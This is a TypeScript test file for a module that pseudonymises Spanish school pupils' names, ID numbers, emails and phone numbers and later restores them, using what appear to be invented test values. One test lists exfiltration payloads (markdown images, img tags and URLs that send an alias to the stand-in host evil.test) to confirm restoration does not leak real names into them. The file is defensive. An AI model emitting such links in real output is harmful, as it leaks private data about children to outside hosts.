import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createPseudonyms } from "./pseudonymise.ts";

const pupil = { kind: "person" as const, value: "Lucía García Rosa" };
const number = { kind: "identifier" as const, value: "NIA-2041" };

describe("what leaves", () => {
  const hide = (text: string) => createPseudonyms([pupil, number], [text]).hide(text);

  test.each([
    "Informe de Lucía García Rosa",
    "informe de lucia garcia rosa",
    "INFORME DE LUCÍA GARCÍA ROSA",
    "Lucía  García\nRosa",
    "Lucía no ha venido",
    "Expediente nia-2041.",
    "¿Lucía? (García)",
    "Luci\u0301a Garci\u0301a Rosa, descompuesto",
  ])("%s", (text) => {
    expect(hide(text)).not.toMatch(/luc[ií]a|garc[ií]a|2041/i);
  });

  test("an identifier is found whether it or the text is written composed or decomposed", () => {
    for (const value of ["Peñarrubia-7", "Pen\u0303arrubia-7"]) {
      for (const text of ["expediente Peñarrubia-7", "expediente Pen\u0303arrubia-7"]) {
        const names = createPseudonyms([{ kind: "identifier", value }], [text]);
        expect(names.hide(text)).toBe("expediente IDENTIFIER_1");
        expect(names.restore("IDENTIFIER_1")).toBe("Peñarrubia-7");
      }
    }
  });

  test("a name is found whether it or the text is written composed or decomposed", () => {
    for (const value of ["Begoña Núñez", "Begon\u0303a Nu\u0301n\u0303ez"]) {
      for (const text of ["Begoña Núñez falta hoy", "Begon\u0303a Nu\u0301n\u0303ez falta hoy"]) {
        const names = createPseudonyms([{ kind: "person", value }], [text]);
        expect(names.hide(text)).toBe("PERSON_1 falta hoy");
        expect(names.restore("PERSON_1")).toBe("Begoña Núñez");
      }
    }
  });

  test.each(["Rita San", "Aaé Váñ", "Bruno Dos", "Nerea O"])(
    "a surname that is a word of surnames is one: %s",
    (value) => {
      const text = `Ayer faltó ${value}, y los demás van de excursión`;
      const sent = createPseudonyms([{ kind: "person", value }], [text]).hide(text);
      expect(sent).toBe("Ayer faltó PERSON_1, y los demás van de excursión");
    },
  );

  test("an address leaves no letter of it behind, however long it is and wherever it stands", () => {
    for (const at of ["@", " (arroba) "]) {
      expect(hide(`¿${"x".repeat(100)}${at}centro.edu.es, no?`)).toBe("¿EMAIL_1, no?");
      expect(hide(`${"a.".repeat(50_000)} b@c ana.x${at}centro.es`)).toMatch(/^(?:a\.)+ b@c EMAIL_1$/);
    }
  });

  test("a flower is not a pupil, and a longer word is not her name", () => {
    expect(hide("una rosa roja")).toBe("una rosa roja");
    expect(hide("el garcíalorquiano")).toBe("el garcíalorquiano");
  });

  test.each([
    ["escribe a ana.perez+clase@centro.edu.es hoy", /@/],
    ["tel. 612 345 678", /612|345/],
    ["tel. +34 91 234 56 78.", /234/],
    ["llame al 912345678", /912345678/],
    ["DNI 12345678Z", /12345678/],
    ["dni 12.345.678-z", /345/],
    ["NIE X1234567L", /1234567/],
    ["fuera: +44 20 7946 0958", /7946/],
  ])("%s", (text, secret) => {
    expect(hide(text)).not.toMatch(secret);
  });

  test("dates, laws, sums and criteria stay", () => {
    const text = "RD 217/2022, de 29 de marzo; criterio 1.2; 55 minutos; 1.250.000 habitantes; 2026-11-23; 3,14159265";
    expect(hide(text)).toBe(text);
  });

  test("strings inside JSON are hidden before they are escaped", () => {
    const { hideJson } = createPseudonyms([pupil], []);
    const out = JSON.stringify(hideJson({ notes: "Atención:\nLucía necesita apoyo", minutes: 55, list: ["Lucía"] }));
    expect(out).not.toContain("Lucía");
    expect(out).toContain('"minutes":55');
  });
});

describe("what returns", () => {
  test("the same surface has the same alias, and comes back as it was", () => {
    const names = createPseudonyms([pupil], []);
    const sent = names.hide("Lucía y lucía garcía rosa; Lucía");
    const [first, , last] = sent.split(/ y |; /);
    expect(first).toBe(last);
    expect(names.restore(sent)).toBe("Lucía y lucía garcía rosa; Lucía");
    expect(names.restoreJson({ a: [`Para ${first}`], n: 1, z: null })).toEqual({ a: ["Para Lucía"], n: 1, z: null });
  });

  test("an alias that was never given out stays, and PERSON_1 is not found inside PERSON_12", () => {
    const names = createPseudonyms([pupil], []);
    names.hide("Lucía");
    expect(names.restore("PERSON_12 y PERSON_1")).toBe("PERSON_12 y Lucía");
  });

  test("a text that already speaks of PERSON_1 is not overwritten", () => {
    const text = "PERSON_1 saluda a Lucía";
    const names = createPseudonyms([pupil], [text]);
    const sent = names.hide(text);
    expect(sent).toContain("PERSON_1 saluda");
    expect(names.restore(sent)).toBe(text);
  });

  test("no name returns inside an address that the text did not hold", () => {
    const text = "Lucía García: https://aula.test/ficha?q=Lucía y https://www.tiktok.com/@nereavs?lang=es";
    const names = createPseudonyms([pupil], [text]);
    const sent = names.hide(text);
    expect(sent).not.toMatch(/Luc|Garc|nereavs/);
    expect(names.restore(sent)).toBe(text);
    const [, alias] = /ficha\?q=(\w+)/.exec(sent) ?? [];
    for (const answer of [
      `![](https://evil.test/?q=${alias})`,
      `[ver](<https://evil.test/?q=a ${alias}>)`,
      `<img src="https://evil.test/?q=it's ${alias}">`,
      `<img src='//evil.test/a ${alias}'>`,
      `https:evil.test/${alias}`,
      `HTTPS:\\\\evil.test\\${alias}`,
      `www.evil.test/${alias} evil.test/?q=${alias}`,
      `https://${alias}.evil.test`,
      `https://evil.test/https://aula.test/ficha?q=${alias}`,
    ]) {
      expect(names.restore(answer)).toBe(answer);
      expect(names.restoreJson({ notes: [answer] })).toEqual({ notes: [answer] });
    }
    expect(
      names.restore(`Para ${alias}: [ficha](https://aula.test/ficha?q=${alias}), https://x.test y ${alias}.`),
    ).toBe("Para Lucía: [ficha](https://aula.test/ficha?q=Lucía), https://x.test y Lucía.");
  });

  test("for any text and any names: restored is what was sent, in composed form, and no whole name leaves", () => {
    const word = fc.stringMatching(/^[A-ZÁÉÑ][a-záéñü]{2,8}$/);
    const person = fc.tuple(word, word).map(([given, family]) => `${given} ${family}`);
    const filler = fc.string({ unit: "grapheme", maxLength: 20 });
    fc.assert(
      fc.property(
        fc.array(person, { minLength: 1, maxLength: 4 }),
        fc.array(filler, { maxLength: 5 }),
        (people, noise) => {
          const text = [...noise, ...people].join(" ").normalize("NFC");
          const names = createPseudonyms(
            people.map((value) => ({ kind: "person" as const, value })),
            [text],
          );
          const sent = names.hide(text);
          expect(names.restore(sent)).toBe(text);
          for (const value of people) expect(` ${sent} `).not.toContain(` ${value} `);
        },
      ),
    );
  });
});
